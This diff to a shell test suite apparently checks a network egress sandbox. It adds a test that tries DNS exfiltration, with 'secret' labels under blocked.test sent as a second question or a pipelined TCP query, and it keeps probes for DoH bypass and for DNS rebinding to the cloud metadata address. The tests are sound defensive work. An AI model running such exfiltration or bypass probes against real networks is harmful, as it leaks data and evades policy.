@@ -87,6 +87,12 @@ chk "audit: the blocked queries are recorded (dns, blocked, with the name)" \
     'grep "\"verdict\":\"blocked\"" "$T/audit.d1" | grep -q "blocked.test"' \
     '$(grep -c . "$T/audit.d1") events: $(tail -2 "$T/audit.d1")'
 
+fresh
+x d1 "python3 /tmp/a.py dns2 $NS_D api.example.com q2-secret.blocked.test; python3 /tmp/a.py dns2 $NS_D api.example.com pipe-secret.blocked.test --pipe"
+chk "DNS exfiltration as a second question, or a second query pipelined on TCP behind an allowed one: never upstream" \
+    '! grep -q "blocked.test" "$DLOG" "$RLOG" && ! echo "$OUT" | grep -q error' \
+    'dns: $(qseen); $(why)'
+
 # --- DoH and DoT to resolver addresses the policy does not allow
 fresh
 x d1 'curl -sk -m 3 -o /dev/null "https://192.0.2.53/dns-query?dns=AAABAAABAAAAAAAAA2FwaQdleGFtcGxlA2NvbQAAAQAB"; curl -sk -m 3 -o /dev/null https://203.0.113.53/dns-query; curl -sk -m 3 -o /dev/null "https://[2001:db8:1::53]/dns-query"; echo rc=$?'
@@ -135,7 +141,7 @@ chk "UDP over IPv6 with only an IPv4 catch-all given: nothing reached wan" \
 fresh
 x u1 'python3 /tmp/a.py udp 192.0.2.11:9999; python3 /tmp/a.py udp 192.0.2.12:9999; python3 /tmp/a.py udp [2001:db8:1::11]:9999'
 chk "UDP allowed by an address rule (192.0.2.11) gets echoes; its neighbours .12 and IPv6 get nothing" \
-    'echo "$OUT" | head -1 | grep -q "echoes: 3" && seen "\"proto\":\"udp\",\"server\":\"udp-echo\",\"dst\":\"192.0.2.11\"" &&
+    'echo "$OUT" | head -1 | grep -q "echoes: 2" && seen "\"proto\":\"udp\",\"server\":\"udp-echo\",\"dst\":\"192.0.2.11\"" &&
      [ "$(wan_n udp 192.0.2.12)" = 0 ] && [ "$(wan_n udp 2001:db8:1::11)" = 0 ]' \
     'udp .12 $(wan_n udp 192.0.2.12), v6 $(wan_n udp 2001:db8:1::11); wan log $(head -c 200 "$WLOG"); $(why)'
 
@@ -152,6 +158,12 @@ chk "ICMP echo (ping sockets, raw sockets, ping) v4 and v6: nothing reached wan"
 # some wan address must reach no service of the runner host (which listens
 # on every address of its own, 127.0.0.1 included, on 8022).
 universe_dns_add "$U" mixed.test 192.0.2.11 127.0.0.1
+# what the authoritative resolver holds, asked directly from the host: each
+# record must exist upstream, or its case proves nothing
+UP=$(for n in $RB; do
+	universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" A
+	universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" AAAA
+done 2>&1)
 for spec in rebind.test=169.254.169.254 meta.test=169.254.169.254 \
     loop.test=127.0.0.1,::1 lb.test=127.0.0.2 \
     hostaddr.test=198.51.100.1,2001:db8:ffff::1 \
@@ -160,8 +172,7 @@ for spec in rebind.test=169.254.169.254 meta.test=169.254.169.254 \
     sbaddr.test=100.64.0.6,2001:db8:4952:1::2 zero.test=0.0.0.0,::; do
 	n=${spec%%=*}
 	addrs=${spec#*=}
-	up=$(universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" A;
-	    universe_host "$U" python3 tests/net/lib/dnsq.py 192.0.2.53 "$n" AAAA)
+	up=$(echo "$UP" | grep "^$n\.\? ")
 	fresh
 	x z1 "python3 /tmp/a.py dns $NS_Z $n; python3 /tmp/a.py dns $NS_Z $n --type AAAA --tcp; python3 /tmp/a.py resolve $n;
 	    python3 /tmp/a.py http 192.0.2.12:8022 --head 'GET /rb HTTP/1.1\r\nHost: $n\r\n\r\n';
